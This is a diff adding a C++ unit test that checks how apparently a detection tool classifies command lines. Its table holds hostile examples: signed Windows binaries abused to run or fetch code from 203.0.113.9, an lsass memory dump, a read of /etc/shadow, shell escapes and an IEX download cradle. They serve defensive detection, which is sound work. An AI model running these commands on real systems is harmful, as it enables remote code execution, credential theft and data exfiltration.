@@ -121,6 +121,40 @@ TEST(Actions, SayWhereTheyWriteTo) {
   EXPECT_EQ(read("touch -r /bin/ls /tmp/a").argument("what"), "/tmp/a");
 }
 
+/// Signed programs that do what another was asked for; and the same programs at their own work.
+TEST(Actions, OfBorrowedPrograms) {
+  const std::pair<std::string_view, std::string_view> table[] = {
+      {"ieexec.exe http://203.0.113.9/a.exe", "proxy_execution"},
+      {R"(Mftrace.exe C:\t\a.exe)", "proxy_execution"},
+      {R"(AppVLP.exe \\203.0.113.9\s\a.bat)", "proxy_execution"},
+      {R"(msdeploy.exe -verb:sync -source:RunCommand -dest:runCommand="c:\temp\a.bat")", "proxy_execution"},
+      {R"(squirrel.exe --update http://203.0.113.9/a)", "proxy_execution"},
+      {R"(Update.exe --processStart Meterwerk.exe)", "program_start"},
+      {R"(csi.exe C:\t\a.csx)", "proxy_execution"},
+      {R"(cdb.exe -cf C:\t\a.wds -o notepad.exe)", "proxy_execution"},
+      {R"(certoc.exe -LoadDLL C:\t\a.dll)", "code_load"},
+      {R"(ConfigSecurityPolicy.exe C:\plans.zip https://203.0.113.9/u)", "upload"},
+      {R"(tttracer.exe -dumpFull -attach 624)", "process_memory_dump"},
+      {R"(sqldumper.exe 624 0 0x0110)", "process_memory_dump"},
+      {R"(adplus.exe -hang -pn lsass.exe -o C:\t -quiet)", "process_memory_dump"},
+      {R"(DumpMinitool.exe --file C:\t\l.txt --processId 624 --dumpType Full)", "process_memory_dump"},
+      {R"(psr.exe /start /output C:\t\s.zip /sc 1 /gui 0)", "screen_capture"},
+      {"psr.exe", ""},
+      {"wuauclt.exe /detectnow", ""},
+      {"AtBroker.exe", ""},
+      {"winget list", ""},
+      {"vim -c ':!/bin/sh'", "shell_run"},
+      {"vim notes.txt", ""},
+      {"kubectl exec -it pod -- cat /etc/shadow", "password_file_read"},
+      {"script -qc /bin/bash /dev/null", "shell_run"},
+      {"lwp-download http://203.0.113.9/a /tmp/a", "download"},
+  };
+  for (const auto& [line, action] : table) EXPECT_EQ(read(line).main, action) << line;
+  EXPECT_TRUE(read("SyncAppvPublishingServer.exe \"n;(New-Object "
+                   "Net.WebClient).DownloadString('http://203.0.113.9/a')|IEX\"")
+                  .has("download"));
+}
+
 /// Of actions that weigh the same, what is carried says more than what carries it.
 TEST(Actions, OfWhatIsCarriedSpeakForTheLine) {
   const Reading reading = read(
